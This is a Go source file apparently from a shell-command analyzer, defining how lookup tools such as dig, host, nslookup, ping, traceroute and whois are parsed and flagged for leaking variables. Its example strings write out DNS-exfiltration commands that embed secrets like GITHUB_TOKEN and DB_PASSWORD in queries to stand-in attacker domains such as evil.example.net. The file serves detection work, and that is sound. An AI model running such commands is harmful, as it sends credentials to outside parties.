package spec

// lookupSpecs are the programs that resolve or reach a host named on the line (dig, host,
// nslookup, ping, traceroute, whois): the name goes to the DNS servers on the way, and to
// whoever runs the zone it ends in (dig "$TOKEN.attacker.example"). A variable in it is sent.
// Sorted by Name; merged into the index like any other table.
var lookupSpecs = []Spec{
	{Name: "dig", Opts: "b= c= f= k= m p= q= t= x= y= 4 6 h v", Style: InOrder, Does: lookupDoes,
		Examples: "dig \"$GITHUB_TOKEN.evil.example.net\" => expose:var GITHUB_TOKEN\n" + "dig \"$GITHUB_TOKEN.evil.example.net\" => send:dns $GITHUB_TOKEN.evil.example.net\n" +
			"dig example.com MX => -\n" + "dig @8.8.8.8 \"$HOST\" => expose:var HOST\n"},
	{Name: "drill", Like: "dig"},
	{Name: "host", Opts: "a A c= C d l m= N= p= r R= s t= T U v V w W= 4 6", Style: InOrder, Does: lookupDoes,
		Examples: "host $API_KEY.x.example => expose:var API_KEY\n" + "host example.com => -\n"},
	{Name: "nslookup", Opts: "", Style: InOrder, Does: lookupDoes,
		Examples: "nslookup \"$DB_PASSWORD.x.example\" => expose:var DB_PASSWORD\n" + "nslookup example.com => -\n"},
	{Name: "ping", Opts: "a A b B c= D d f F= h i= I= l= L m= M= n O p= q Q= r R s= S= t= T= U v V w= W= 4 6", Style: InOrder, Does: lookupDoes,
		Examples: "ping -c1 $GITHUB_TOKEN.evil.example.net => expose:var GITHUB_TOKEN\n" + "ping -c 1 example.com => -\n"},
	{Name: "ping6", Like: "ping"},
	{Name: "tracepath", Like: "traceroute"},
	{Name: "traceroute", Opts: "4 6 d F I T U e A n r m= N= p= t= l= f= g= i= M= O= q= s= w= z= P= sport= mtu back", Style: InOrder, Does: lookupDoes,
		Examples: "traceroute $SECRET_KEY.x.example => expose:var SECRET_KEY\n" + "traceroute example.com => -\n"},
	{Name: "whois", Opts: "h= p= H I l L m M r B G d x a b c K Q g= i= s= t= T= v= q=", Style: InOrder, Does: lookupDoes,
		Examples: "whois $API_TOKEN.example => expose:var API_TOKEN\n" + "whois example.com => -\n"},
}

// lookupDoes: every operand is a name to resolve or a query word; a variable in one is sent.
func lookupDoes(c *Call) {
	for _, w := range c.Operands() {
		if len(w.From) == 0 {
			continue
		}
		exposeWords(c, []Word{w}, c.Name+" "+w.S)
		c.Add(Effect{Kind: Send, Class: "dns", Text: w.S, Dyn: w.Dyn, By: c.Name})
	}
}
